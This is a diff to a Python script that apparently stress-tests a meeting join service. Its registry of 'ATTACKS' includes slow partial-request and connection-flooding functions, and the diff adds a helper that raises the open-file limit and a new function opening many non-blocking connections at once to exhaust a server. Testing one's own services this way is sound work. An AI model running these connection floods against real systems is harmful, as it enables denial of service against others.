@@ -48,10 +48,14 @@ class Visitor:
         return seen if seen != 200 else self.ask("POST", f"{HOME}/join", {"code": code, "language": "nl"})
 
 
-def half_open(address: str, port: int, many: int) -> dict[str, int]:
-    """Opens connections and sends half a request on each; keeps them until it is told to go."""
+def _as_many_files_as_allowed() -> None:
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+
+
+def half_open(address: str, port: int, many: int) -> dict[str, int]:
+    """Opens connections and sends half a request on each; keeps them until it is told to go."""
+    _as_many_files_as_allowed()
     held = []
     for _ in range(many):
         one = socket.socket()
@@ -63,6 +67,18 @@ def half_open(address: str, port: int, many: int) -> dict[str, int]:
     print(json.dumps({"opened": len(held)}), flush=True)
     sys.stdin.readline()
     return {"closed": len(held)}
+
+
+def at_once(address: str, port: int, many: int) -> dict[str, int]:
+    """Knocks as often before anybody can open, and says nothing; waits at the door until it is told to go."""
+    _as_many_files_as_allowed()
+    held = [socket.socket() for _ in range(many)]
+    for one in held:
+        one.setblocking(False)
+        one.connect_ex((address, port))
+    print(json.dumps({"knocked": len(held)}), flush=True)
+    sys.stdin.readline()
+    return {"gone": len(held)}
 
 
 def joins(address: str, port: int, many: int, code: str) -> dict[str, int]:
@@ -128,7 +144,7 @@ def matrix(address: str, port: int, meeting: str, code: str) -> dict[str, int]:
     return answers
 
 
-ATTACKS = {attack.__name__: attack for attack in (half_open, joins, wrong_codes, slow_head, matrix)}
+ATTACKS = {attack.__name__: attack for attack in (half_open, at_once, joins, wrong_codes, slow_head, matrix)}
 
 
 def main() -> None:
